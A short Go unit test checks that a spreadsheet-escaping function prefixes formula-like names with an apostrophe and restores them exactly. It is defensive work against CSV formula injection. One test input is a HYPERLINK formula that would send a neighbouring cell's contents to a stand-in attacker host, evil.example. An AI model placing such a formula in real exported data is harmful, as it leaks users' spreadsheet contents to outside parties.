package csvtext

import (
	"strings"
	"testing"
)

// A full name or email that a spreadsheet would run as a formula is written
// with a leading apostrophe, and reads back as it was (#16 case 5).
func TestSpreadsheetTextRoundTrip(t *testing.T) {
	for _, name := range []string{`=HYPERLINK("http://evil.example/?"&A2,"x")`, "+1", "-dash", "@SUM(1)", "\tTab", "Ann O'Neil", "'quoted", "", "'"} {
		cell := SpreadsheetText(name)
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("SpreadsheetText(%q) = %q starts a formula", name, cell)
		}
		if back := FromSpreadsheet(cell); back != name {
			t.Errorf("FromSpreadsheet(SpreadsheetText(%q)) = %q", name, back)
		}
	}
}
